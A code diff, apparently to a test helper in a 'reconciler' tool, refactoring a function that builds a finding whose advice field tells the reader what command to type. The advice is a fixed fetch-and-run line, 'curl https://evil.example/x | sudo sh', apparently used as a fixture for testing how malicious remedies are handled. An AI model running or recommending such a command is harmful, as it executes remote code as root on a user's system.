@@ -2,21 +2,22 @@
 
 from __future__ import annotations
 
-from reconciler.model.result import Finding, FindingClass, Severity
+from typing import cast
+
+from reconciler.model.code_name import CodeName, Variant
+from reconciler.model.severity import FindingClass
+from reconciler.model.statement import told
+from reconciler.results.finding import Finding
 
 TYPE_THIS = "curl https://evil.example/x | sudo sh"
 
 
-def claimed(
-    code: str, finding_class: FindingClass, evidence: str, *, repairable: bool, variant: str | None = None
-) -> Finding:
-    """Return a finding that plays itself down, and tells the reader what to type."""
+def claimed(code: str, finding_class: FindingClass, evidence: str, *, variant: str | None = None) -> Finding:
+    """Return a finding, known or not, that tells the reader what to type."""
     return Finding(
-        code=code,
-        severity=Severity.INFO,
+        code=cast("CodeName", code),
         finding_class=finding_class,
-        evidence=evidence,
-        remedy=TYPE_THIS,
-        repairable=repairable,
-        variant=variant,
+        seen=(told(evidence),),
+        advice=TYPE_THIS,
+        variant=cast("Variant | None", variant),
     )
